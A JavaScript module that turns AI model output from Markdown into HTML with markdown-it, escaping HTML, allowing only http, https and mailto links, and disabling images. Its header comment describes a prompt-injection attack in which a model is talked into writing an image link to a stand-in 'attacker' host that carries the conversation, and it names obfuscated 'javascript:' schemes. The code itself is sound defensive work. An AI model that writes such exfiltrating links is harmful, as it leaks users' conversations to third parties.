/*
 * Markdown → HTML for model output, with markdown-it.
 *
 * Safe by construction, not by cleaning afterwards: `html: false` makes markdown-it escape every tag
 * in the source, so the only markup in the result is what its renderer (and the rules below) write.
 * Links are kept only for http:, https: and mailto: targets (checked after markdown-it has decoded
 * entities and percent-encoded the URL, so `&#106;avascript:` or `java\tscript:` do not slip through);
 * anything else stays text. Images are off: a model can be talked into writing
 * ![](https://attacker/?q=<the conversation>), and showing it would send the request (the page's CSP
 * would also refuse a remote image, and log a violation).
 */
import markdownit from '../vendor/markdown-it/markdown-it.esm.min.mjs';
import { codeBlockHtml, fenceLanguage } from './markdown-code.js';
import { taskLists } from './markdown-tasks.js';

const SAFE_LINK = /^(?:https?:|mailto:)/i;

// breaks: a single newline is a line break, as chat answers are written (and as the page showed them).
const md = markdownit({ html: false, linkify: true, breaks: true, typographer: false });
// Only URLs written with their scheme become links: fuzzy matching links "setup.py" and "main.rs"
// (.py and .rs are country domains) and any "name@host".
md.linkify.set({ fuzzyLink: false, fuzzyEmail: false });
md.disable('image');
md.validateLink = (url) => SAFE_LINK.test(url);
md.use(taskLists);

md.renderer.rules.link_open = (tokens, idx, options, env, self) => {
  // A new tab, and the page (and its address) is neither reachable from nor told to the target.
  tokens[idx].attrSet('target', '_blank');
  tokens[idx].attrSet('rel', 'noopener noreferrer');
  return self.renderToken(tokens, idx, options);
};

/** Whether markdown-it found the closing fence: its line range then holds one line more than opener + content. */
function fenceClosed(token) {
  const contentLines = token.content ? token.content.split('\n').length - 1 : 0;
  return token.map[1] - token.map[0] - 1 - contentLines >= 1;
}

md.renderer.rules.fence = (tokens, idx) => {
  const token = tokens[idx];
  return codeBlockHtml(token.content, fenceLanguage(token.info), !fenceClosed(token));
};
// Indented code gets the same block (copy button included), without a language.
md.renderer.rules.code_block = (tokens, idx) => codeBlockHtml(tokens[idx].content, '', false);

// Wide tables scroll on their own instead of widening the message (style.css: .table-wrap).
md.renderer.rules.table_open = () => '<div class="table-wrap"><table>\n';
md.renderer.rules.table_close = () => '</table></div>\n';

/** A whole Markdown text (model output) → HTML. */
export function renderMarkdown(text) {
  return md.render(String(text ?? ''));
}

/** Inline Markdown only (`code`, emphasis, links) → HTML: for one-line texts such as errors and notices. */
export function renderInline(text) {
  return md.renderInline(String(text ?? ''));
}
